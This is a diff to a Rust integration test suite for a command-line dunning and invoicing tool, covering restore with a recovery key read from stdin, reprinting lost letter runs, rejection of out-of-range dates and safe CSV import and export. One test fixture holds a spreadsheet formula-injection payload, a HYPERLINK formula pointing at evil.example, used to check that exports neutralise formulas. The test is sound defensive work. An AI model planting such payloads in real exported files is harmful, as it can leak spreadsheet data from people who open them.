@@ -2,7 +2,7 @@
 
 mod common;
 
-use common::{cli, require_keychain, stderr, stdout};
+use common::{cli, cli_stdin, require_keychain, stderr, stdout};
 
 #[test]
 fn demo_then_list_shows_the_demo_customers() {
@@ -133,22 +133,23 @@ fn backup_and_restore_round_trip() {
     let out = cli(&elsewhere, &["restore", backup.to_str().unwrap()]);
     assert!(!out.status.success());
     assert!(stderr(&out).contains("recovery key"), "{}", stderr(&out));
-    let out = cli(
-        &elsewhere,
-        &[
-            "restore",
-            backup.to_str().unwrap(),
-            "--recovery-key",
-            "0000-1111",
-        ],
-    );
-    assert!(!out.status.success());
+    // The key is never an argument: it is read from standard input.
     let out = cli(
         &elsewhere,
         &["restore", backup.to_str().unwrap(), "--recovery-key", &key],
     );
+    assert!(!out.status.success());
+    let restore = ["restore", backup.to_str().unwrap(), "--recovery-key"];
+    let out = cli_stdin(&elsewhere, &restore, "0000-1111\n");
+    assert!(!out.status.success());
+    let out = cli_stdin(&elsewhere, &restore, &format!("{key}\n"));
     assert!(out.status.success(), "{}", stderr(&out));
     assert!(stdout(&cli(&elsewhere, &["customers", "list"])).contains("40 customers"));
+    // Restoring again keeps the database it replaces beside it.
+    let out = cli(&elsewhere, &["restore", backup.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(stdout(&out).contains("before-restore"), "{}", stdout(&out));
+    assert!(dir.path().join("elsewhere.db.before-restore").exists());
 }
 
 #[test]
@@ -182,17 +183,40 @@ fn the_demo_dunning_run_reaches_every_level_and_a_second_run_changes_nothing() {
     );
 
     let letters = dir.path().join("letters");
-    let out = cli(&db, &["dunning", "run", "--out", letters.to_str().unwrap()]);
+    let fingerprint = plan["fingerprint"].as_str().unwrap().to_string();
+    let out = cli(
+        &db,
+        &[
+            "dunning",
+            "run",
+            "--out",
+            letters.to_str().unwrap(),
+            "--fingerprint",
+            &fingerprint,
+        ],
+    );
     assert!(out.status.success(), "{}", stderr(&out));
-    let files: Vec<String> = std::fs::read_dir(&letters)
+    // The run's documents are in a folder of its own.
+    let folders: Vec<std::path::PathBuf> = std::fs::read_dir(&letters)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    assert_eq!(folders.len(), 1);
+    assert!(folders[0]
+        .file_name()
+        .unwrap()
+        .to_string_lossy()
+        .starts_with("dunning-run-00001-"));
+    let files: Vec<String> = std::fs::read_dir(&folders[0])
         .unwrap()
         .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
         .collect();
     assert!(files.iter().any(|f| f.ends_with("all-letters.pdf")));
     assert!(files
         .iter()
-        .any(|f| f.ends_with("suspend-in-partner-center.csv")));
+        .any(|f| f.ends_with("partner-center-changes.csv")));
     assert!(files.iter().filter(|f| f.contains("-L")).count() >= 5);
+    assert!(!files.iter().any(|f| f.ends_with(".part")));
     let before = stdout(&cli(&db, &["aging", "--json"]));
 
     let again = dir.path().join("again");
@@ -267,4 +291,196 @@ fn invoices_and_payments_import_all_or_nothing_and_idempotently() {
     assert_eq!(aging["totals"][0]["total_minor"], 2_500_000);
     // INV-2 was due on 2026-10-31 (30 days terms): 45 days overdue, in the 31-60 bucket.
     assert_eq!(aging["rows"][0]["buckets"][2], 2_500_000);
+}
+
+fn pdf_text(path: &std::path::Path) -> String {
+    let out = std::process::Command::new("pdftotext")
+        .arg(path)
+        .arg("-")
+        .output()
+        .expect("pdftotext (poppler-utils) is installed by tests/quickstart.sh");
+    assert!(out.status.success());
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// Issue 6, observation 8: the letters are made from the stored run, so a run whose
+/// documents were lost after its commit (a crash, a full disk) is written again, the same.
+#[test]
+fn a_run_whose_documents_were_lost_is_reprinted_identically() {
+    require_keychain();
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("reprint.db");
+    assert!(cli(&db, &["demo"]).status.success());
+    let out_dir = dir.path().join("letters");
+    let out = cli(&db, &["dunning", "run", "--out", out_dir.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let folder = std::fs::read_dir(&out_dir)
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    let mut originals: Vec<(String, String)> = std::fs::read_dir(&folder)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .map(|p| {
+            let text = if p.extension().is_some_and(|e| e == "pdf") {
+                pdf_text(&p)
+            } else {
+                std::fs::read_to_string(&p).unwrap()
+            };
+            (p.file_name().unwrap().to_string_lossy().into_owned(), text)
+        })
+        .collect();
+    originals.sort();
+    assert!(originals.len() > 5);
+    // The machine "crashed" after the commit: no documents.
+    std::fs::remove_dir_all(&folder).unwrap();
+    let runs = stdout(&cli(&db, &["dunning", "runs"]));
+    assert!(
+        runs.contains("missing") && runs.contains("reprint 1"),
+        "{runs}"
+    );
+    let out = cli(&db, &["dunning", "reprint", "1"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let mut again: Vec<(String, String)> = std::fs::read_dir(&folder)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .map(|p| {
+            let text = if p.extension().is_some_and(|e| e == "pdf") {
+                pdf_text(&p)
+            } else {
+                std::fs::read_to_string(&p).unwrap()
+            };
+            (p.file_name().unwrap().to_string_lossy().into_owned(), text)
+        })
+        .collect();
+    again.sort();
+    assert_eq!(originals, again);
+    assert!(stdout(&cli(&db, &["dunning", "runs"])).contains("files in"));
+    // A settings change after the run does not change its letters.
+    assert!(cli(
+        &db,
+        &["settings", "set", "letterhead.name", "Someone Else Ltd"]
+    )
+    .status
+    .success());
+    let other = dir.path().join("other");
+    assert!(cli(
+        &db,
+        &["dunning", "reprint", "1", "--out", other.to_str().unwrap()]
+    )
+    .status
+    .success());
+    let combined = std::fs::read_dir(other.join(folder.file_name().unwrap()))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| p.to_string_lossy().ends_with("all-letters.pdf"))
+        .unwrap();
+    let text = pdf_text(&combined);
+    assert!(text.contains("CloudBridge") && !text.contains("Someone Else"));
+}
+
+/// Issue 6, observation 4: dates out of range are refused with a clear message at every
+/// entry point of the command line, and nothing panics.
+#[test]
+fn extreme_dates_are_refused_without_a_panic() {
+    require_keychain();
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("dates.db");
+    assert!(cli(&db, &["demo"]).status.success());
+    for args in [
+        vec!["dunning", "run", "--as-of", "2099-01-01", "--out", "x"],
+        vec!["aging", "--as-of", "+262142-12-31"],
+        vec!["dunning", "plan", "--as-of=-0001-01-01"],
+        vec![
+            "statement",
+            "--customer",
+            "1",
+            "--as-of",
+            "1999-12-31",
+            "--out",
+            "s.pdf",
+        ],
+    ] {
+        let out = cli(&db, &args);
+        assert!(!out.status.success(), "{args:?}");
+        let err = stderr(&out);
+        assert!(!err.contains("panicked"), "{args:?}: {err}");
+        assert!(
+            err.contains("date") || err.contains("today"),
+            "{args:?}: {err}"
+        );
+    }
+    let invoices = dir.path().join("far.csv");
+    std::fs::write(
+        &invoices,
+        "number,customer,issued_on,due_on,currency,description,unit_price,quantity\n\
+         FAR-1,1,+262142-12-31,,TWD,x,1,1\n\
+         FAR-2,1,2100-12-31,,TWD,x,1,1\n\
+         FAR-3,1,2026-01-01,2026-02-01,TWD,x,92233720368547758.07,2\n",
+    )
+    .unwrap();
+    let out = cli(&db, &["invoices", "import", invoices.to_str().unwrap()]);
+    assert!(!out.status.success());
+    let err = stderr(&out);
+    assert!(!err.contains("panicked"), "{err}");
+    assert!(err.contains("far.csv:2 field issued_on"), "{err}");
+    assert!(
+        err.contains("far.csv:3 field due_on") || err.contains("far.csv:3"),
+        "{err}"
+    );
+    assert!(err.contains("far.csv:4"), "{err}");
+}
+
+/// Issue 6, observations 2 and 3: a partial file changes only its columns, and an export
+/// carries no formula but imports back to the original text.
+#[test]
+fn partial_imports_keep_other_fields_and_exports_carry_no_formulas() {
+    require_keychain();
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("csv.db");
+    assert!(cli(&db, &["init"]).status.success());
+    let full = dir.path().join("full.csv");
+    std::fs::write(
+        &full,
+        "legal_name,country,currency,tenant_id,credit_limit,status,phone,notes\n\
+         \"=HYPERLINK(\"\"http://evil.example\"\"&A1;\"\"click\"\")\",TW,TWD,11111111-1111-4111-8111-111111111111,150000,active,+886 2 1234 5678,@SUM(1+1)\n",
+    )
+    .unwrap();
+    let out = cli(&db, &["customers", "import", full.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let partial = dir.path().join("partial.csv");
+    std::fs::write(
+        &partial,
+        "legal_name,country,currency,tenant_id\n\
+         \"=HYPERLINK(\"\"http://evil.example\"\"&A1;\"\"click\"\")\",TW,TWD,11111111-1111-4111-8111-111111111111\n",
+    )
+    .unwrap();
+    let out = cli(&db, &["customers", "import", partial.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let list: serde_json::Value =
+        serde_json::from_slice(&cli(&db, &["customers", "list", "--json"]).stdout).unwrap();
+    let c = &list[0];
+    assert_eq!(c["status"], "active", "{c}");
+    assert_eq!(c["credit_limit"]["minor"], 15_000_000, "{c}");
+    let export = dir.path().join("export.csv");
+    assert!(cli(&db, &["customers", "export", export.to_str().unwrap()])
+        .status
+        .success());
+    let text = std::fs::read_to_string(&export).unwrap();
+    let mut rdr = csv::Reader::from_reader(text.as_bytes());
+    for rec in rdr.records() {
+        for cell in rec.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {text}"
+            );
+        }
+    }
+    assert!(text.contains("'=HYPERLINK") && text.contains("'@SUM(1+1)") && text.contains("'+886"));
+    // Importing the export back changes nothing: the apostrophes come off again.
+    let out = cli(&db, &["customers", "import", export.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(stdout(&out).contains("1 unchanged"), "{}", stdout(&out));
 }
